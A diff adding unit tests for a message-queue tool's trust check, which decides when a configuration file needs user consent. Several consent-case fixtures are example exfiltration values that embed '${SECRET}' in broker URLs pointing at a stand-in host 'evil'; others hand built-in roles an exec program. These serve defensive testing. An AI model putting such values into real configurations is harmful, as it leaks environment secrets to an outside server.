@@ -1,0 +1,61 @@
+// Which files need the user's consent, and which must not be asked about.
+
+import { test } from 'uvu';
+import * as assert from 'uvu/assert';
+import builtin from '../../../rascal.json' with { type: 'json' };
+import { templateNames, templates } from '../../../src/cli/templates.ts';
+import { doubtsOf } from '../../../src/config/trust.ts';
+
+const connection = 'amqp://localhost';
+const withHandler = (name: string, handler: unknown) => ({ mq: { roles: { [name]: { consume: 'hello', handler } } } });
+const doubts = (file: unknown, owner = 7) => doubtsOf({ text: JSON.stringify(file), owner }, { uid: 7, builtin });
+
+for (const [what, file] of [
+  ['a role of its own name runs a program', withHandler('thumbnails', { exec: ['./thumb.sh'] })],
+  ['a built-in role has a built-in handler', withHandler('worker', { builtin: 'print' })],
+  ['a variable is used, and no broker is named', { vhosts: { '/': { queues: { 'q-${STAGE}': {} } } } }],
+  ['a broker is named without variables', { vhosts: { '/': { connection } } }],
+  ['a ${ is literal', { vhosts: { '/': { connection, queues: { q: { options: { x: '$${A}' } } } } } }],
+  [
+    'a variable is for the program of a role',
+    { vhosts: { '/': { connection } }, ...withHandler('own', { exec: ['x'], env: { STAGE: '${STAGE}' } }) },
+  ],
+  ...templateNames.map((name) => [`mq init ${name} has written it`, templates[name].content] as const),
+  ['it is the built-in one', builtin],
+] as const) {
+  test(`no consent is needed if ${what}`, () => assert.equal(doubts(file), []));
+}
+
+for (const [what, file, doubt] of [
+  ...['exec', 'execLines', 'module'].map(
+    (kind) =>
+      [
+        `a built-in role has ${kind}`,
+        withHandler('consumer', { [kind]: ['x'] }),
+        'it gives the built-in role consumer a program',
+      ] as const,
+  ),
+  ...[
+    { vhosts: { '/': { connection: { password: '${SECRET:-x}' } } } },
+    { vhosts: { '/': { connections: ['amqp://u:${SECRET}@evil'] } } },
+    { defaults: { vhosts: { connection: { url: 'amqp://evil/${SECRET}' } } } },
+    { vhosts: { '/': { connection } }, publications: { p: { queue: 'q', options: { headers: { h: '${SECRET}' } } } } },
+    { vhosts: { '/': { connection } }, mq: { roles: { own: { publish: 'p', text: '${SECRET}' } } } },
+  ].map(
+    (file, index) =>
+      [
+        `a broker of the file gets a variable, ${index + 1}`,
+        file,
+        'a broker that it names would receive variables of the environment (SECRET)',
+      ] as const,
+  ),
+] as const) {
+  test(`consent is needed if ${what}`, () => assert.equal(doubts(file), [doubt]));
+}
+
+test("another user's file needs consent, root's does not", () => {
+  assert.equal(doubts({}, 8), ['it belongs to another user']);
+  assert.equal(doubts({}, 0), []);
+});
+
+test.run();
